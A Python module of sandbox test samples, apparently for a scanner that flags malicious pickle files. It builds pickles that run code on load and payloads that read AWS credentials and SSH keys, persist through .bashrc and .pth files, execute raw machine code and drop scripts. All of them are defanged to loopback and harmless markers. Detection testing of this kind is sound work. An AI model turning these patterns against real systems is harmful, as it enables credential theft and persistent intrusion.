"""What the malicious samples do when loaded: all of it harmless, and meant for a sandbox without a network."""

LOOPBACK = "127.0.0.1"


class Call:
    """Pickles as a call of ``function(*arguments)``, made by whoever loads the file. Writing it runs nothing."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def python(source):
    """The source as a payload that runs it and swallows its errors, as real ones do in order not to be noticed."""
    indented = "\n".join(f"    {line}" for line in source.strip().splitlines())
    return f"try:\n{indented}\nexcept Exception:\n    pass\n"


MARKER = python("open('/tmp/.dynahug-sample', 'w').write('harmless')")

CONNECT = python(f"""
import socket
s = socket.socket()
s.settimeout(1)
s.connect(('{LOOPBACK}', 4444))
s.send(b'harmless')
""")

DATAGRAM = python(f"""
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'harmless', ('{LOOPBACK}', 5353))
""")

DOWNLOAD = python(f"""
import urllib.request
urllib.request.urlopen('http://{LOOPBACK}:8000/stage2', timeout=1).read()
""")

AWS_CREDENTIALS = python("""
import os
stolen = open(os.path.expanduser('~/.aws/credentials')).read()
""")

SSH_KEY = python("""
import pathlib
stolen = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_bytes()
""")

SHELL_START_FILE = python("""
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as start:
    start.write('# dynahug sample, harmless\\n')
""")

PATH_FILE = python("""
import os, site
folder = site.getusersitepackages()
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, 'dynahug_sample.pth'), 'w').write('# harmless\\n')
""")

MACHINE_CODE = python("""
import ctypes, mmap
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b'\\xc3')
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""")

DAEMON = python("""
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(0.3)
    open('/tmp/.dynahug-daemon', 'w').write('harmless')
    os._exit(0)
""")

DELAYED = python("""
import subprocess, threading
threading.Timer(0.4, subprocess.call, [['/bin/sh', '-c', 'id']]).start()
""")

DROPPED = python("""
import os, subprocess
path = '/tmp/.update.sh'
open(path, 'w').write('#!/bin/sh\\nid\\n')
os.chmod(path, 0o755)
subprocess.call([path])
""")

IN_PROCESS_PATCH = python("""
import builtins, json
json.loads = lambda text, *a, **k: None
""")
